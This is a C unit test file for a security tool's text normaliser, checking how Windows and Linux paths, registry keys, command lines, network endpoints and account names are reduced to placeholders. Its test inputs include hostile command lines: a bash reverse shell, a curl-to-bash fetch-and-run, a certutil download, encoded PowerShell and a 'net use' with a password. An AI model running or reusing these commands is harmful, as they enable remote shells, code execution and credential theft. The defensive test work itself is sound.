#include "graph_util.h"

#include "graph/text.h"

/* Normalised text: tables of what becomes what. */

struct row {
    enum lg_text_kind kind;
    const char *raw;
    const char *want;
};

static const struct lg_text_names names = {.host = {"ws1.corp.example", 16},
        .user = {"CORP\\jane.doe", 13},
        .people = {{"CORP\\pgustavo", 13}}};

static void check(enum lg_platform platform, const struct row *rows, size_t n)
{
    char out[LG_MAX_NODE_TEXT + 1];

    for (size_t i = 0; i < n; i++) {
        size_t k = lg_text_normalise(rows[i].kind, platform, &names, lg_str_z(rows[i].raw), out);

        out[k < LG_MAX_NODE_TEXT ? k : LG_MAX_NODE_TEXT] = '\0';
        if (strcmp(out, rows[i].want) != 0)
            fail_msg("%s\n  gave %s\n  want %s", rows[i].raw, out, rows[i].want);
    }
}

#define CHECK(platform, rows) check(platform, rows, sizeof(rows) / sizeof((rows)[0]))

static void test_windows_paths(void **state)
{
    static const struct row rows[] = {
            {LG_TEXT_IMAGE, "C:\\Windows\\System32\\svchost.exe",
                    "c:\\windows\\system32\\svchost.exe"},
            {LG_TEXT_IMAGE, "\\SystemRoot\\System32\\smss.exe", "c:\\windows\\system32\\smss.exe"},
            {LG_TEXT_IMAGE, "\\??\\C:\\Windows\\system32\\conhost.exe",
                    "c:\\windows\\system32\\conhost.exe"},
            {LG_TEXT_IMAGE, "\\\\?\\C:\\Windows\\a.exe", "c:\\windows\\a.exe"},
            {LG_TEXT_IMAGE, "\\Device\\HarddiskVolume3\\Windows\\System32\\lsass.exe",
                    "c:\\windows\\system32\\lsass.exe"},
            {LG_TEXT_FILE, "\\Device\\HarddiskVolumeShadowCopy12\\windows\\ntds\\ntds.dit",
                    "\\device\\harddiskvolumeshadowcopy0\\windows\\ntds\\ntds.dit"},
            {LG_TEXT_IMAGE, "%SystemRoot%\\system32\\rundll32.exe",
                    "c:\\windows\\system32\\rundll32.exe"},
            {LG_TEXT_IMAGE, "C:/PROGRA~2/Foo/x64/bar.exe",
                    "c:\\program files (x86)\\foo\\x64\\bar.exe"},
            {LG_TEXT_FILE, "C:\\Users\\Some One\\AppData\\Local\\Temp\\a.exe",
                    "c:\\users\\<user>\\appdata\\local\\temp\\a.exe"},
            {LG_TEXT_FILE, "C:\\Users\\PEDRO~1.GUS\\x.dll", "c:\\users\\<user>\\x.dll"},
            {LG_TEXT_FILE, "C:\\Users\\Public\\x.ps1", "c:\\users\\public\\x.ps1"},
            {LG_TEXT_FILE, "\\\\fileserver\\share\\x.txt", "\\\\<host>\\share\\x.txt"},
            {LG_TEXT_FILE, "\\\\10.1.2.3\\c$\\x.txt", "\\\\<ip-private>\\c$\\x.txt"},
            {LG_TEXT_IMAGE, "C:\\Apps\\Skype_15.1.2.3_x64__kzf8qxf38zg5c\\Skype.exe",
                    "c:\\apps\\skype_0_x64__<rand>\\skype.exe"},
            {LG_TEXT_MODULE,
                    "C:\\Windows\\WinSxS\\amd64_x.y_6595b64144ccf1df_6.0.17763.292_none_"
                    "ab\\comctl32.dll",
                    "c:\\windows\\winsxs\\amd64_x.y_<hex>_0_none_ab\\comctl32.dll"},
            {LG_TEXT_FILE, "C:\\x\\{52805FBA-4F6C-1685-48AA-35222B9B0D24}\\f.log",
                    "c:\\x\\<guid>\\f.log"},
            {LG_TEXT_FILE, "C:\\data\\report-2023-08-15.docx", "c:\\data\\report-0-0-0.docx"},
            {LG_TEXT_FILE, "C:\\$Recycle.Bin\\S-1-5-21-1-2-3-500\\desktop.ini",
                    "c:\\$recycle.bin\\<sid>\\desktop.ini"},
            {LG_TEXT_FILE, "", ""},
    };

    (void)state;
    CHECK(LG_PLATFORM_WINDOWS, rows);
}

static void test_registry(void **state)
{
    static const struct row rows[] = {
            {LG_TEXT_REGISTRY,
                    "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-"
                    "1-2-3-500\\x",
                    "hklm\\system\\currentcontrolset\\services\\bam\\state\\usersettings\\<sid>"
                    "\\x"},
            {LG_TEXT_REGISTRY, "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Lsa",
                    "hklm\\system\\currentcontrolset\\control\\lsa"},
            {LG_TEXT_REGISTRY,
                    "HKU\\S-1-5-21-1-2-3-1001_Classes\\CLSID\\{52805FBA-4F6C-1685-48AA-"
                    "35222B9B0D24}",
                    "hku\\<sid>_classes\\clsid\\<guid>"},
            {LG_TEXT_REGISTRY, "HKU\\S-1-5-18\\Software\\X", "hku\\s-1-5-18\\software\\x"},
            {LG_TEXT_REGISTRY, "HKCU\\Software\\X", "hku\\<sid>\\software\\x"},
            {LG_TEXT_REGISTRY, "\\REGISTRY\\A\\{52805fba-4f6c-1685-48aa-35222b9b0d24}\\LocalState",
                    "\\registry\\a\\<guid>\\localstate"},
            {LG_TEXT_REGISTRY,
                    "HKLM\\SOFTWARE\\Classes\\CLSID\\{52805FBA-4F6C-1685-48AA-35222B9B0D24}"
                    "\\InprocServer32",
                    "hkcr\\clsid\\<guid>\\inprocserver32"},
    };

    (void)state;
    CHECK(LG_PLATFORM_WINDOWS, rows);
}

static void test_commands(void **state)
{
    static const struct row rows[] = {
            {LG_TEXT_CMD, "\"C:\\Windows\\system32\\cmd.exe\"  /c   whoami /all",
                    "c:\\windows\\system32\\cmd.exe /c whoami /all"},
            {LG_TEXT_CMD,
                    "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA==",
                    "powershell -enc <b64>"},
            {LG_TEXT_CMD, "net use \\\\WS1\\c$ /user:CORP\\jane.doe P4ss",
                    "net use \\\\<host>\\c$ /user:<domain>\\<user> p0ss"},
            {LG_TEXT_CMD, "ping ws1.corp.example & ping dc01.corp.example",
                    "ping <host> & ping <host>.<domain>"},
            {LG_TEXT_CMD, "runas /user:pgustavo cmd", "runas /user:<user> cmd"},
            {LG_TEXT_CMD, "certutil -urlcache -f http://172.18.39.8/a.xml C:\\ProgramData\\a.xml",
                    "certutil -urlcache -f http://<ip-private>/a.xml c:\\programdata\\a.xml"},
            {LG_TEXT_CMD, "rundll32.exe C:\\Users\\jane.doe\\a.dll,Start",
                    "rundll32.exe c:\\users\\<user>\\a.dll,start"},
            {LG_TEXT_CMD, "c^m^d.exe /c st`art", "cmd.exe /c start"},
            {LG_TEXT_CMD, "svchost.exe -k netsvcs -p 0x1f0fff", "svchost.exe -k netsvcs -p <hex>"},
            {LG_TEXT_CMD, "smss.exe 000000fc 00000088", "smss.exe <hex> 0"},
    };

    (void)state;
    CHECK(LG_PLATFORM_WINDOWS, rows);
}

static void test_names(void **state)
{
    static const struct row rows[] = {
            {LG_TEXT_PIPE, "\\PSHost.132166290588400551.1234.DefaultAppDomain.powershell",
                    "pshost.0.defaultappdomain.powershell"},
            {LG_TEXT_PIPE, "\\VBoxTrayIPC-jane.doe", "vboxtrayipc-<user>"},
            {LG_TEXT_PIPE, "\\\\.\\pipe\\svcctl", "svcctl"},
            {LG_TEXT_PIPE, "\\crashpad_7448_LVFVUNPBAHFYSUACX", "crashpad_0_lvfvunpbahfysuacx"},
            {LG_TEXT_NAME, "OneSyncSvc_b0b5d", "onesyncsvc_<hex>"},
            {LG_TEXT_DNS, "DC01.CORP.EXAMPLE.", "<host>.<domain>"},
            {LG_TEXT_DNS, "ws1", "<host>"},
            {LG_TEXT_DNS, "crl4.digicert.com", "crl0.digicert.com"},
            {LG_TEXT_DNS, "a8f3k2m9q1.b7x2k9m3.evil.com", "<rand>.evil.com"},
            {LG_TEXT_DNS, "login.microsoftonline.com", "login.microsoftonline.com"},
            {LG_TEXT_NET_OUT, "8.8.8.8:443", "ip-public4:443:out"},
            {LG_TEXT_NET_OUT, "[fe80::1%eth0]:5353", "ip-link-local6:5353:out"},
            {LG_TEXT_NET_IN, "10.0.0.5:51000", "ip-private4:high:in"},
            {LG_TEXT_NET_OUT, "172.16.0.1:7777", "ip-private4:user:out"},
            {LG_TEXT_NET_OUT, "172.32.0.1:80", "ip-public4:80:out"},
            {LG_TEXT_NET_LISTEN, "0.0.0.0:22", "ip-any4:22:listen"},
            {LG_TEXT_NET_OUT, "[::1]:0", "ip-loopback6:any:out"},
            {LG_TEXT_NET_OUT, "[::ffff:127.0.0.1]:80", "ip-loopback4:80:out"},
            {LG_TEXT_ACCOUNT, "CORP\\jane.doe", "<person>"},
            {LG_TEXT_ACCOUNT, "WS1$", "<machine>"},
            {LG_TEXT_ACCOUNT, "Administrator", "administrator"},
            {LG_TEXT_ACCOUNT, "NT AUTHORITY\\SYSTEM", "system"},
            {LG_TEXT_ACCOUNT, "-", "<unknown>"},
            {LG_TEXT_GROUP, "BUILTIN\\Administrators", "group:administrators"},
            {LG_TEXT_GROUP, "Wizards", "group:<group>"},
    };

    (void)state;
    CHECK(LG_PLATFORM_WINDOWS, rows);
}

static void test_linux(void **state)
{
    static const struct row rows[] = {
            {LG_TEXT_FILE, "/home/alice/.ssh/authorized_keys", "/home/<user>/.ssh/authorized_keys"},
            {LG_TEXT_FILE, "/proc/1234/maps", "/proc/0/maps"},
            {LG_TEXT_IMAGE, "/usr/bin/python3.11", "/usr/bin/python0"},
            {LG_TEXT_FILE, "/tmp/tmp.a8f3k2m9", "/tmp/tmp.<rand>"},
            {LG_TEXT_CMD, "curl -s http://93.184.216.34/x.sh | bash",
                    "curl -s http://<ip-public>/x.sh | bash"},
            {LG_TEXT_CMD, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                    "bash -i >& /dev/tcp/<ip-private>/0 0>&0"},
            {LG_TEXT_NET_OUT, "unix:/run/user/1000/bus", "unix:/run/user/0/bus"},
            {LG_TEXT_ACCOUNT, "uid:0", "root"},
            {LG_TEXT_ACCOUNT, "uid:33", "<daemon>"},
            {LG_TEXT_ACCOUNT, "uid:1000", "<person>"},
            {LG_TEXT_ACCOUNT, "uid:unset", "<person>"},
    };

    (void)state;
    check(LG_PLATFORM_LINUX, rows, sizeof(rows) / sizeof(rows[0]) - 1);
}

/* What is normalised once stays as it is: placeholders are not taken apart. */
static void test_idempotent(void **state)
{
    static const char *const raws[] = {
            "C:\\Users\\jane.doe\\a_{52805FBA-4F6C-1685-48AA-35222B9B0D24}.log",
            "\\Device\\HarddiskVolume3\\Windows\\x.exe", "\\\\srv\\share\\1.2.3\\f.exe"};
    char once[LG_MAX_NODE_TEXT], twice[LG_MAX_NODE_TEXT];

    (void)state;
    for (size_t i = 0; i < sizeof(raws) / sizeof(raws[0]); i++) {
        size_t n =
                lg_text_normalise(LG_TEXT_FILE, LG_PLATFORM_WINDOWS, NULL, lg_str_z(raws[i]), once);
        size_t m = lg_text_normalise(
                LG_TEXT_FILE, LG_PLATFORM_WINDOWS, NULL, lg_str_of(once, n), twice);

        assert_int_equal(n, m);
        assert_memory_equal(once, twice, n);
    }
}

static void test_bounds(void **state)
{
    static char big[8192];
    char out[LG_MAX_NODE_TEXT];
    size_t n;

    (void)state;
    memset(big, 'a', sizeof(big));
    for (unsigned kind = LG_TEXT_LITERAL; kind <= LG_TEXT_SHARE; kind++) {
        n = lg_text_normalise((enum lg_text_kind)kind, LG_PLATFORM_WINDOWS, &names,
                lg_str_of(big, sizeof(big)), out);
        assert_true(n <= LG_MAX_NODE_TEXT);
    }
    for (size_t i = 0; i + 2 <= sizeof(big); i += 2)
        memcpy(big + i, "\xc3\xa4", 2);
    big[0] = 'x';
    big[1] = 'x';
    n = lg_text_normalise(
            LG_TEXT_LITERAL, LG_PLATFORM_WINDOWS, NULL, lg_str_of(big, sizeof(big)), out);
    assert_int_equal(n, 2048);
    n = lg_text_normalise(
            LG_TEXT_LITERAL, LG_PLATFORM_WINDOWS, NULL, lg_str_of(big + 1, 4001), out);
    assert_int_equal(n, 2047); /* no half character at the end */
    assert_int_equal(lg_text_cut(lg_str_of("ab\xc3\xa4", 4), 3).n, 2);
}

static void test_flags(void **state)
{
    static const char b64[] =
            "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUA";
    char big[600];

    (void)state;
    assert_int_equal(lg_text_flags(lg_str_z(b64)), LG_NODEF_BASE64);
    assert_int_equal(
            lg_text_flags(LG_STR(
                    "/usr/lib/x/usr/share/doc/a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/q/R/s/T/u/V1")),
            0);
    memset(big, ' ', sizeof(big));
    assert_int_equal(lg_text_flags(lg_str_of(big, 600)), LG_NODEF_LONG);
    assert_int_equal(lg_text_flags(lg_str_of(big, 511)), 0);
}

static void test_classes(void **state)
{
    const enum lg_platform w = LG_PLATFORM_WINDOWS, l = LG_PLATFORM_LINUX;
    const struct lg_str none = {"", 0};

    (void)state;
    assert_int_equal(lg_text_user_class(w, LG_STR("NT AUTHORITY\\SYSTEM"), none), LG_USER_SYSTEM);
    assert_int_equal(
            lg_text_user_class(w, LG_STR("NT AUTHORITY\\NETWORK SERVICE"), none), LG_USER_SERVICE);
    assert_int_equal(lg_text_user_class(w, LG_STR("Window Manager\\DWM-1"), none), LG_USER_SERVICE);
    assert_int_equal(lg_text_user_class(w, LG_STR("WS1$"), none), LG_USER_SYSTEM);
    assert_int_equal(lg_text_user_class(w, LG_STR("x"), LG_STR("S-1-5-18")), LG_USER_SYSTEM);
    assert_int_equal(lg_text_user_class(w, LG_STR("CORP\\x"), none), LG_USER_PERSON);
    assert_int_equal(lg_text_user_class(w, none, none), LG_USER_UNKNOWN);
    assert_int_equal(lg_text_user_class(l, LG_STR("root"), none), LG_USER_ROOT);
    assert_int_equal(lg_text_user_class(l, LG_STR("www-data"), none), LG_USER_DAEMON);
    assert_int_equal(lg_text_user_class(l, LG_STR("alice"), none), LG_USER_PERSON);
    assert_int_equal(lg_text_user_class(l, LG_STR("1000"), none), LG_USER_PERSON);
    assert_int_equal(lg_text_integrity(LG_STR("S-1-16-12288")), LG_IL_HIGH);
    assert_int_equal(lg_text_integrity(LG_STR("System")), LG_IL_SYSTEM);
    assert_int_equal(lg_text_integrity(LG_STR("AppContainer")), LG_IL_LOW);
    assert_int_equal(lg_text_integrity(LG_STR("x")), LG_IL_UNKNOWN);
    assert_int_equal(lg_text_file_attr(w, LG_STR("C:\\Users\\x\\a.exe")),
            LG_ATTR_FILE_EXECUTABLE | LG_ATTR_FILE_USER_WRITABLE);
    assert_int_equal(lg_text_file_attr(w, LG_STR("C:\\Windows\\a.PS1")), LG_ATTR_FILE_SCRIPT);
    assert_int_equal(lg_text_file_attr(l, LG_STR("/tmp/x.sh")),
            LG_ATTR_FILE_SCRIPT | LG_ATTR_FILE_USER_WRITABLE);
    assert_int_equal(lg_text_file_attr(l, LG_STR("/usr/bin/ls")), LG_ATTR_FILE_EXECUTABLE);
    assert_int_equal(lg_text_file_attr(l, LG_STR("/etc/passwd")), 0);
    assert_true(lg_text_names_program(LG_STR("\"C:\\x.exe\" /y")));
    assert_false(lg_text_names_program(LG_STR("http://www.example.com")));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
            cmocka_unit_test(test_windows_paths),
            cmocka_unit_test(test_registry),
            cmocka_unit_test(test_commands),
            cmocka_unit_test(test_names),
            cmocka_unit_test(test_linux),
            cmocka_unit_test(test_idempotent),
            cmocka_unit_test(test_bounds),
            cmocka_unit_test(test_flags),
            cmocka_unit_test(test_classes),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
